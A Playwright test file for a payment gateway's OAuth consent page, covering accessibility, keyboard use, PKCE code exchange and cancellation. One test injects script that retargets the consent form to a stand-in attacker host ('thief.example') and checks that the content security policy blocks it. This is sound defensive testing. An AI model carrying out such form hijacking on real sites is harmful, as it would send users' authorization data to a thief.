// The authorize page, as a merchant's owner meets it who was sent there by a partner (rules: partners.md#authorize).
import { createHash } from 'node:crypto'
import type { Page } from '@playwright/test'
import { findFaults } from '../../support/browser/checker.ts'
import { overflow } from '../../support/browser/overflow.ts'
import { type PartnerSite, REDIRECT } from '../../support/browser/partners.ts'
import { signedIn, signIn } from '../../support/browser/people.ts'
import { SCHEMES } from '../../support/browser/schemes.ts'
import { expect } from '../../support/browser/test.ts'
import { test } from '../../support/browser/worlds.ts'
import { apiClient } from '../../support/client.ts'

const VERIFIER = 'a-verifier-of-forty-three-characters-or-more-0'
const CHALLENGE = createHash('sha256').update(VERIFIER).digest('base64url')

function addressOf({ gateway, client }: PartnerSite, more: Record<string, string> = {}): string {
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: client.client_id,
    redirect_uri: REDIRECT,
    scope: 'payments',
    state: 'a state & more',
    code_challenge: CHALLENGE,
    code_challenge_method: 'S256',
    ...more,
  })
  return `${gateway.authUrl}/oauth/authorize?${query}`
}

/** What the browser brings back to the partner. Nobody is there: the question is what it asks for. */
async function broughtBack(page: Page, act: () => Promise<void>): Promise<Record<string, string>> {
  const [request] = await Promise.all([
    page.waitForRequest((one) => one.url().startsWith(`${REDIRECT}?`)),
    act(),
  ])
  return Object.fromEntries(new URL(request.url()).searchParams)
}

const exchange = ({ gateway, client }: PartnerSite, more: object) =>
  apiClient(gateway.baseUrl, gateway.caCertificate).post('/oauth/token', {
    ...client,
    grant_type: 'authorization_code',
    redirect_uri: REDIRECT,
    ...more,
  })

for (const colorScheme of SCHEMES) {
  test(`what is asked and what is refused has no fault, ${colorScheme}, on 320 pixels`, {
    tag: '@long',
  }, async ({ browser, partner }) => {
    const { pagesUrl, console: owner } = partner.gateway
    const options = { colorScheme, viewport: { width: 320, height: 640 }, bypassCSP: true }
    const page = await signedIn(browser, pagesUrl, owner, options)
    for (const [address, title] of [
      [addressOf(partner), 'Connect Example Partner?'],
      [addressOf(partner, { redirect_uri: `${REDIRECT}/x` }), 'Can’t connect'],
    ] as const) {
      await page.goto(address)
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(title)
      expect([title, await overflow(page), await findFaults(page)]).toEqual([title, 0, []])
    }
    await page.context().close()
  })
}

test('by keyboard alone an owner signs in, reads and connects; the code is for who asked', async ({
  page,
  partner,
}) => {
  await page.goto(addressOf(partner))
  await signIn(page, partner.gateway.console)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Connect Example Partner?')
  const connect = page.getByRole('button', { name: 'Connect' })
  for (let presses = 0; presses < 20; presses++) {
    await page.keyboard.press('Tab')
    if (await connect.evaluate((button) => button === document.activeElement)) break
  }
  await expect(connect).toBeFocused()
  const { code, ...rest } = await broughtBack(page, () => page.keyboard.press('Enter'))
  expect(rest).toEqual({ state: 'a state & more', iss: partner.gateway.authUrl })
  const unproved = await exchange(partner, { code })
  expect([unproved.status, unproved.body.error]).toEqual([400, 'invalid_grant'])
  const stolen = await exchange(partner, { code, code_verifier: VERIFIER.replace('a', 'b') })
  expect([stolen.status, stolen.body.error]).toEqual([400, 'invalid_grant'])
  const granted = await exchange(partner, { code, code_verifier: VERIFIER })
  expect([granted.status, granted.body.scope]).toEqual([200, 'payments'])
})

test('without a script it is canceled', { tag: '@long' }, async ({ browser, partner }) => {
  const { pagesUrl, console: owner } = partner.gateway
  const page = await signedIn(browser, pagesUrl, owner, { javaScriptEnabled: false })
  await page.goto(addressOf(partner))
  const back = await broughtBack(page, () => page.getByRole('button', { name: 'Cancel' }).click())
  expect(back).toEqual({
    error: 'access_denied',
    error_description: expect.any(String),
    state: 'a state & more',
    iss: partner.gateway.authUrl,
  })
  await page.context().close()
})

// Firefox throws where Chromium says on its console what it stopped.
test('its policy lets the form lead to the partner, and to nobody else @chromium', { tag: '@long' }, async ({
  browser,
  partner,
}) => {
  const { pagesUrl, console: owner } = partner.gateway
  const page = await signedIn(browser, pagesUrl, owner)
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  await page.goto(addressOf(partner))
  expect(said).toEqual([])
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  await page.evaluate(() => {
    const form = document.querySelector<HTMLFormElement>('main form')
    form?.setAttribute('action', 'https://thief.example/')
    form?.submit()
  })
  await expect.poll(() => said.join()).toContain('form-action')
  expect(asked.filter((url) => url.startsWith('https://thief.example'))).toEqual([])
  await page.context().close()
})
